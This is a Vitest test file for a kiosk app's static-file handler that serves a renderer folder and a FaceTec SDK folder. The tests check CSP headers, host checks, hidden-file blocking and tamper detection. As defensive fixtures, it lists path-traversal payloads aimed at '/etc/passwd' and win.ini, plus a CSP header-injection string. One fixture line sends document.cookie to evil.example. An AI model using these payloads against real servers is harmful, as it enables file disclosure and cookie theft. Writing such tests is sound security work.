/**
 * The app origin serves two folders (the renderer and the FaceTec SDK). Nothing outside them may be
 * reachable, however the path is spelled.
 */
import { createHash } from 'node:crypto'
import { mkdir, symlink, writeFile } from 'node:fs/promises'
import { dirname, join, sep } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { createAppRequestHandler, SDK_MOUNT } from '../../../main/app-origin/app-request-handler'
import {
  contentSecurityPolicy,
  FACETEC_SERVER_ORIGIN,
  isHttpsOrigin,
  workerScriptPolicy,
  type CspOptions
} from '../../../main/app-origin/csp'
import { measureSdkFolder, MAX_SDK_FILES, NOTHING_MEASURED, SDK_SCRIPT } from '../../../main/app-origin/sdk-folder'
import { resolveInside } from '../../../main/app-origin/static-files'
import { tempDir } from '../../support/temp-dir'

let base: string
let renderer: string
let sdk: string

beforeAll(async () => {
  base = await tempDir('kiosk-static')
  renderer = join(base, 'renderer')
  sdk = join(base, 'sdk')
  await mkdir(join(renderer, 'assets'), { recursive: true })
  await mkdir(join(sdk, 'core-sdk', 'FaceTecSDK.js', 'resources'), { recursive: true })
  await writeFile(join(renderer, 'index.html'), '<!doctype html><title>kiosk</title>')
  await writeFile(join(renderer, 'assets', 'app.js'), 'console.log(1)')
  await writeFile(join(renderer, 'assets', 'a b.css'), 'body{}')
  await writeFile(join(renderer, 'upper.HTML'), '<!doctype html><title>upper</title>')
  await writeFile(join(renderer, 'assets', 'chunk.cjs'), 'module.exports = 1')
  await writeFile(join(renderer, 'assets', 'logo.svg'), '<svg xmlns="http://www.w3.org/2000/svg"/>')
  await writeFile(join(sdk, 'core-sdk', 'FaceTecSDK.js', 'resources', 'Face0123.js'), 'self.onmessage = null')
  await writeFile(join(sdk, 'core-sdk', 'FaceTecSDK.js', 'resources', 'Face0123.JS'), 'self.onmessage = null')
  await mkdir(join(sdk, '.git'), { recursive: true })
  await writeFile(join(sdk, '.git', 'config'), '[remote] url = https://token@example.com')
  await writeFile(join(sdk, '.env'), 'FACETEC_KEY=secret')
  await writeFile(join(sdk, 'core-sdk', '.DS_Store'), 'finder')
  await symlink(join(sdk, '.env'), join(sdk, 'env-link.js'))
  await writeFile(join(base, 'secret.txt'), 'TOP SECRET')
  await writeFile(join(sdk, 'core-sdk', 'FaceTecSDK.js', 'FaceTecSDK.js'), 'var FaceTecSDK = {}')
  await writeFile(join(sdk, 'core-sdk', 'FaceTecSDK.js', 'resources', 'abc.wasm'), new Uint8Array([0, 97, 115, 109]))
  await writeFile(join(sdk, 'core-sdk', 'FaceTecSDK.js', 'resources', 'abc.data'), 'data')
  await symlink(join(base, 'secret.txt'), join(sdk, 'escape.txt'))
  await symlink(base, join(sdk, 'escape-dir'))
  await symlink(join(sdk, 'core-sdk', 'FaceTecSDK.js', 'FaceTecSDK.js'), join(sdk, 'inside-link.js'))
})

const ORIGIN = 'http://127.0.0.1:1'
const get = (url: string, method = 'GET') =>
  createAppRequestHandler({ origin: ORIGIN, rendererRoot: renderer, sdkRoot: sdk })(new Request(url, { method }))

describe('serving the renderer', () => {
  it('answers / with index.html and a Content-Security-Policy', async () => {
    const response = await get('http://127.0.0.1:1/')
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8')
    expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(await response.text()).toContain('<title>kiosk</title>')
  })

  it('serves assets with their MIME types, including encoded spaces', async () => {
    const js = await get('http://127.0.0.1:1/assets/app.js')
    expect(js.headers.get('content-type')).toBe('text/javascript; charset=utf-8')
    // Scripts carry the policy too: a Web Worker started from a script takes its policy from it.
    expect(js.headers.get('content-security-policy')).toBe(contentSecurityPolicy())
    const css = await get('http://127.0.0.1:1/assets/a%20b.css')
    expect(css.status).toBe(200)
    expect(css.headers.get('content-type')).toBe('text/css; charset=utf-8')
  })

  it('answers 404 for a missing file and a directory, 405 for a POST', async () => {
    expect((await get('http://127.0.0.1:1/nope.js')).status).toBe(404)
    expect((await get('http://127.0.0.1:1/assets')).status).toBe(404)
    expect((await get('http://127.0.0.1:1/', 'POST')).status).toBe(405)
  })
})

describe('the Content-Security-Policy', () => {
  // Every directive, spelled out: a change to the policy must be a visible change to this test.
  const strict = [
    "default-src 'none'",
    "script-src 'self' 'wasm-unsafe-eval'",
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "media-src 'self' blob: mediastream:",
    "connect-src 'self'",
    "worker-src 'self'",
    "font-src 'self'",
    "base-uri 'none'",
    "form-action 'none'",
    "object-src 'none'",
    "frame-ancestors 'none'",
    "frame-src 'none'",
    'sandbox allow-scripts allow-same-origin allow-forms'
  ]
  const live: CspOptions = { mode: 'live', allowEval: true, faceTecServers: [FACETEC_SERVER_ORIGIN] }

  it('in demo mode (and by default) allows only the app origin, WebAssembly and the camera stream', () => {
    expect(contentSecurityPolicy().split('; ')).toEqual(strict)
    expect(contentSecurityPolicy({ mode: 'demo' })).toBe(contentSecurityPolicy())
  })

  it("in live mode adds exactly what the real SDK needs: eval for its worker, FaceTec's server, inline sounds", () => {
    expect(workerScriptPolicy(live).split('; ')).toEqual([
      "default-src 'none'",
      "script-src 'self' 'wasm-unsafe-eval' 'unsafe-eval'",
      "style-src 'self' 'unsafe-inline'",
      "img-src 'self' data: blob:",
      "media-src 'self' blob: mediastream: data:",
      "connect-src 'self' https://api.facetec.com",
      "worker-src 'self'",
      "font-src 'self'",
      "base-uri 'none'",
      "form-action 'none'",
      "object-src 'none'",
      "frame-ancestors 'none'",
      "frame-src 'none'",
      'sandbox allow-scripts allow-same-origin allow-forms'
    ])
    // The page itself never gets eval: only the worker's script does.
    expect(contentSecurityPolicy(live)).toBe(
      workerScriptPolicy(live).replace("'wasm-unsafe-eval' 'unsafe-eval'", "'wasm-unsafe-eval'")
    )
    expect(contentSecurityPolicy(live)).not.toContain("'unsafe-eval'")
  })

  it("leaves out 'unsafe-eval' when the operator turns it off, and names on-premise FaceTec servers instead", () => {
    const policy = workerScriptPolicy({
      mode: 'live',
      allowEval: false,
      faceTecServers: ['https://facetec.bank.example', 'https://10.1.2.3:8443']
    })
    expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'; ")
    expect(policy).toContain("connect-src 'self' https://facetec.bank.example https://10.1.2.3:8443;")
    expect(contentSecurityPolicy({ mode: 'live', allowEval: false, faceTecServers: [] })).toContain(
      "connect-src 'self';"
    )
  })

  it.each([
    'http://api.facetec.com',
    'https://api.facetec.com/',
    'https://api.facetec.com/api/v1.1',
    'https://*.facetec.com',
    "https://api.facetec.com; script-src 'unsafe-inline'",
    'https://API.facetec.com',
    'api.facetec.com'
  ])('refuses %j as a FaceTec server, in the config and in the policy', (origin) => {
    expect(isHttpsOrigin(origin)).toBe(false)
    expect(() => contentSecurityPolicy({ mode: 'live', allowEval: true, faceTecServers: [origin] })).toThrow(
      /not an https origin/
    )
  })

  it("puts 'unsafe-eval' on the scripts of the SDK's resource directory (its worker) alone", async () => {
    const handler = createAppRequestHandler({ origin: ORIGIN, rendererRoot: renderer, sdkRoot: sdk, csp: live })
    const policyOf = async (path: string) =>
      (await handler(new Request(`${ORIGIN}${path}`))).headers.get('content-security-policy')
    expect(await policyOf('/')).toBe(contentSecurityPolicy(live))
    expect(await policyOf('/assets/app.js')).toBe(contentSecurityPolicy(live))
    expect(await policyOf(`${SDK_MOUNT}core-sdk/FaceTecSDK.js/FaceTecSDK.js`)).toBe(contentSecurityPolicy(live))
    expect(await policyOf(`${SDK_MOUNT}core-sdk/FaceTecSDK.js/resources/Face0123.js`)).toBe(workerScriptPolicy(live))
    expect(await policyOf(`${SDK_MOUNT}core-sdk/FaceTecSDK.js/resources/Face0123.JS`)).toBe(workerScriptPolicy(live))
    // Not even the resource directory's other files.
    expect(await policyOf(`${SDK_MOUNT}core-sdk/FaceTecSDK.js/resources/abc.wasm`)).toBe(contentSecurityPolicy(live))
    // Demo mode: no eval anywhere.
    const demo = createAppRequestHandler({ origin: ORIGIN, rendererRoot: renderer, sdkRoot: sdk })
    const worker = await demo(new Request(`${ORIGIN}${SDK_MOUNT}core-sdk/FaceTecSDK.js/resources/Face0123.js`))
    expect(worker.headers.get('content-security-policy')).toBe(contentSecurityPolicy())
  })

  it.each([
    ['an upper-case .HTML page', '/upper.HTML', 200],
    ['a .cjs script', '/assets/chunk.cjs', 200],
    ['an SVG image (a document when opened)', '/assets/logo.svg', 200],
    ['a .wasm file', `${SDK_MOUNT}core-sdk/FaceTecSDK.js/resources/abc.wasm`, 200],
    ['a missing file', '/nope.html', 404],
    ['a refused path', `${SDK_MOUNT}..%2fsecret.txt`, 400]
  ])('goes out with every answer: %s', async (_label, path, status) => {
    const handler = createAppRequestHandler({ origin: ORIGIN, rendererRoot: renderer, sdkRoot: sdk, csp: live })
    const response = await handler(new Request(`${ORIGIN}${path}`))
    expect(response.status).toBe(status)
    expect(response.headers.get('content-security-policy')).toBe(contentSecurityPolicy(live))
    expect(response.headers.get('x-frame-options')).toBe('DENY')
    expect(response.headers.get('referrer-policy')).toBe('no-referrer')
  })

  it('goes out with a refused method and a refused host too', async () => {
    for (const response of [await get(`${ORIGIN}/`, 'POST'), await get('http://localhost:1/')])
      expect(response.headers.get('content-security-policy')).toBe(contentSecurityPolicy())
  })
})

describe('the host a request names', () => {
  it.each([
    ['another port', 'http://127.0.0.1:2/index.html'],
    ['a rebinding name', 'http://evil.example:1/index.html'],
    ['localhost for 127.0.0.1', 'http://localhost:1/index.html'],
    ['another scheme', 'https://127.0.0.1:1/index.html']
  ])('is refused when it is not the app origin: %s', async (_label, url) => {
    const response = await get(url)
    expect(response.status).toBe(421)
    expect(await response.text()).not.toContain('<title>kiosk</title>')
  })

  it('on the custom scheme: only assure-kiosk://app', async () => {
    const handler = createAppRequestHandler({ origin: 'assure-kiosk://app', rendererRoot: renderer, sdkRoot: sdk })
    expect((await handler(new Request('assure-kiosk://app/index.html'))).status).toBe(200)
    expect((await handler(new Request('assure-kiosk://evil/index.html'))).status).toBe(421)
    expect((await handler(new Request('assure-kiosk://app.evil/index.html'))).status).toBe(421)
    expect((await handler(new Request('assure-kiosk://app:8/index.html'))).status).toBe(421)
  })
})

describe('serving the FaceTec SDK folder', () => {
  it('serves .wasm as application/wasm and .data as octet-stream', async () => {
    const wasm = await get(`http://127.0.0.1:1${SDK_MOUNT}core-sdk/FaceTecSDK.js/resources/abc.wasm`)
    expect(wasm.status).toBe(200)
    expect(wasm.headers.get('content-type')).toBe('application/wasm')
    expect(new Uint8Array(await wasm.arrayBuffer())).toEqual(new Uint8Array([0, 97, 115, 109]))
    const data = await get(`http://127.0.0.1:1${SDK_MOUNT}core-sdk/FaceTecSDK.js/resources/abc.data`)
    expect(data.headers.get('content-type')).toBe('application/octet-stream')
    const script = await get(`http://127.0.0.1:1${SDK_MOUNT}core-sdk/FaceTecSDK.js/FaceTecSDK.js`)
    expect(script.headers.get('content-type')).toBe('text/javascript; charset=utf-8')
  })

  it('follows a symlink that stays inside the folder', async () => {
    expect((await get(`http://127.0.0.1:1${SDK_MOUNT}inside-link.js`)).status).toBe(200)
  })

  it('answers 404 for the whole mount when no SDK folder is configured', async () => {
    const handler = createAppRequestHandler({ origin: ORIGIN, rendererRoot: renderer, sdkRoot: null })
    expect(
      (await handler(new Request(`http://127.0.0.1:1${SDK_MOUNT}core-sdk/FaceTecSDK.js/FaceTecSDK.js`))).status
    ).toBe(404)
  })
})

describe('paths that try to leave the folder', () => {
  const hostile = [
    `${SDK_MOUNT}..%2fsecret.txt`,
    `${SDK_MOUNT}..%2F..%2Fsecret.txt`,
    `${SDK_MOUNT}%2e%2e%2fsecret.txt`,
    `${SDK_MOUNT}core-sdk%2f..%2f..%2fsecret.txt`,
    `${SDK_MOUNT}..%5csecret.txt`,
    `${SDK_MOUNT}%2e%2e%5c%2e%2e%5csecret.txt`,
    `${SDK_MOUNT}%2fetc%2fpasswd`,
    `${SDK_MOUNT}C:%5cWindows%5cwin.ini`,
    `${SDK_MOUNT}secret.txt%00.js`,
    `${SDK_MOUNT}escape.txt`,
    `${SDK_MOUNT}escape-dir/secret.txt`,
    `${SDK_MOUNT}%E0%A4%A`,
    '/..%2fsecret.txt',
    '/assets/..%2f..%2fsecret.txt'
  ]

  it.each(hostile)('%s never answers the outside file', async (path) => {
    const response = await get(`http://127.0.0.1:1${path}`)
    expect([400, 404]).toContain(response.status)
    expect(await response.text()).not.toContain('TOP SECRET')
  })

  it('is normalised by the URL parser when written with plain or encoded dots', async () => {
    // WHATWG URL parsing already removes `..` and `%2e%2e` segments, so these stay inside the origin.
    for (const path of ['/../secret.txt', '/%2e%2e/secret.txt', `${SDK_MOUNT}../../secret.txt`]) {
      const response = await get(`http://127.0.0.1:1${path}`)
      expect(await response.text()).not.toContain('TOP SECRET')
    }
  })

  it.each([
    '../secret.txt',
    'a/../../secret.txt',
    '%2e%2e/secret.txt',
    '..%2fsecret.txt',
    'a%5c..%5c..%5cb',
    'x%00.js',
    'C:%5cx',
    './a',
    '%E0%A4%A'
  ])('the resolver itself refuses %s before touching the file system', (raw) => {
    expect(resolveInside('/srv/root', raw).ok).toBe(false)
  })

  it('the resolver keeps a leading slash inside the root instead of treating it as absolute', () => {
    expect(resolveInside('/srv/root', '/etc/passwd')).toEqual({ ok: true, path: '/srv/root/etc/passwd' })
    expect(resolveInside('/srv/root', 'a%20b/c.js')).toEqual({ ok: true, path: '/srv/root/a b/c.js' })
  })
})

describe('hidden files in a served folder', () => {
  it.each([`${SDK_MOUNT}.env`, `${SDK_MOUNT}.git/config`, `${SDK_MOUNT}core-sdk/.DS_Store`, `${SDK_MOUNT}%2eenv`])(
    '%s is not served',
    async (path) => {
      const response = await get(`${ORIGIN}${path}`)
      expect(response.status).toBe(404)
      expect(await response.text()).not.toMatch(/secret|token|finder/)
    }
  )

  it('nor through a symlink that leads to one', async () => {
    const response = await get(`${ORIGIN}${SDK_MOUNT}env-link.js`)
    expect(response.status).toBe(404)
    expect(await response.text()).not.toContain('secret')
  })
})

describe('the SDK folder as measured at start', () => {
  async function measuredCopy() {
    const root = await tempDir('kiosk-sdk-measured')
    const script = join(root, SDK_SCRIPT)
    await mkdir(dirname(script), { recursive: true })
    await writeFile(script, 'var FaceTecSDK = {}')
    await writeFile(join(root, '.env'), 'hidden')
    const manifest = await measureSdkFolder(root)
    const handler = createAppRequestHandler({
      origin: ORIGIN,
      rendererRoot: renderer,
      sdkRoot: root,
      sdkManifest: manifest
    })
    const fetchScript = () => handler(new Request(`${ORIGIN}${SDK_MOUNT}${SDK_SCRIPT.split(sep).join('/')}`))
    return { root, script, manifest, handler, fetchScript }
  }

  it('serves the files it measured, and names the script by its SHA-384 (SRI form) for the log', async () => {
    const { manifest, fetchScript } = await measuredCopy()
    expect(manifest.files).toBe(1)
    expect(manifest.scriptIntegrity).toBe(
      `sha384-${createHash('sha384').update('var FaceTecSDK = {}').digest('base64')}`
    )
    const response = await fetchScript()
    expect(response.status).toBe(200)
    expect(await response.text()).toBe('var FaceTecSDK = {}')
  })

  it('refuses a file changed after start, and a file added after start', async () => {
    const { root, script, handler, fetchScript } = await measuredCopy()
    await writeFile(script, 'fetch("https://evil.example/?" + document.cookie)')
    const changed = await fetchScript()
    expect(changed.status).toBe(404)
    expect(await changed.text()).not.toContain('evil')
    await writeFile(join(root, 'added.js'), 'alert(1)')
    expect((await handler(new Request(`${ORIGIN}${SDK_MOUNT}added.js`))).status).toBe(404)
  })

  it('serves nothing when the folder could not be measured', async () => {
    const handler = createAppRequestHandler({
      origin: ORIGIN,
      rendererRoot: renderer,
      sdkRoot: sdk,
      sdkManifest: NOTHING_MEASURED
    })
    expect((await handler(new Request(`${ORIGIN}${SDK_MOUNT}core-sdk/FaceTecSDK.js/FaceTecSDK.js`))).status).toBe(404)
  })

  it('refuses a folder far bigger than any SDK', async () => {
    const root = await tempDir('kiosk-sdk-huge')
    await Promise.all(Array.from({ length: 4 }, (_, i) => writeFile(join(root, `f${i}.js`), '')))
    await expect(measureSdkFolder(root, { maxFiles: 3 })).rejects.toThrow(/more than 3 files/)
    expect(MAX_SDK_FILES).toBeGreaterThan(100)
  })
})
